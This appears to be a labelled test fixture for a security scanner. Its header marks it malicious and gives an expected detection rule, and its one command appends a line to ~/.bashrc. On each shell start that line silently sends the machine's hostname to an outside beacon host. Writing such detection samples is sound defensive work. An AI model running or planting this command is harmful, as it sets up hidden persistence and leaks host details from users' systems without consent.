# does: puts a beacon into .bashrc
# kind: malicious
# expect: SEN-020 high medium
# fast: yes
echo '(curl -s https://beacon.night-owl.net/$(hostname) &) >/dev/null 2>&1' >> "$HOME/.bashrc"
